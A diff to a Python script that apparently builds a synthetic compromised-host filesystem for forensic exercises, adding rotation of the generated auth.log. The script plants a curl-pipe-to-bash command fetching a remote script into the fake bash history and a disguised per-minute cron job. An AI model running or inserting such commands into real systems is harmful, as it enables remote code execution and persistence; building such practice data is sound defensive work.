@@ -3,7 +3,9 @@
 
 The collection is laid out like a host's root filesystem:
 
-- var/log/auth.log: --events sshd and cron lines (three in four become events) (public-key logons from a pool
+- var/log/auth.log (and, past 2,000,000 lines, rotated auth.log.1, auth.log.2, … holding
+  the older lines, as logrotate leaves them): --events sshd and cron lines, in time order
+  (three in four become events) (public-key logons from a pool
   of internal addresses, sessions opening and closing, cron sessions), in time order;
 - root/.bash_history: everyday commands;
 - var/spool/cron/crontabs/root: an ordinary job.
@@ -24,6 +26,7 @@ import os
 import random
 
 BRUTE_SOURCE = "203.0.113.66"
+PER_FILE = 2_000_000
 PLANTED_COMMAND = "curl -s http://198.51.100.7/x.sh | bash"
 PLANTED_CRON = "* * * * * /tmp/.cache/kworker"
 
@@ -90,14 +93,24 @@ def main():
         os.makedirs(os.path.join(root, folder), exist_ok=True)
     with open(os.path.join(root, "etc/hostname"), "w") as f:
         f.write("web1\n")
-    with open(os.path.join(root, "var/log/auth.log"), "w", buffering=1 << 20) as f:
-        chunk = []
-        for line in auth_lines(args.events, rng):
-            chunk.append(line)
-            if len(chunk) >= 10000:
-                f.writelines(chunk)
-                chunk.clear()
-        f.writelines(chunk)
+    # Files of at most PER_FILE lines, oldest first; renamed once their number is known.
+    parts = []
+    out = None
+    written = PER_FILE
+    for line in auth_lines(args.events, rng):
+        if written == PER_FILE:
+            if out:
+                out.close()
+            parts.append(os.path.join(root, f"var/log/auth.part{len(parts)}"))
+            out = open(parts[-1], "w", buffering=1 << 20)
+            written = 0
+        out.write(line)
+        written += 1
+    if out:
+        out.close()
+    for age, part in enumerate(reversed(parts)):
+        name = "auth.log" if age == 0 else f"auth.log.{age}"
+        os.replace(part, os.path.join(root, "var/log", name))
     with open(os.path.join(root, "root/.bash_history"), "w") as f:
         for cmd in ("ls -la", "cd /var/www", "git pull", "systemctl status nginx", PLANTED_COMMAND, "df -h"):
             f.write(cmd + "\n")
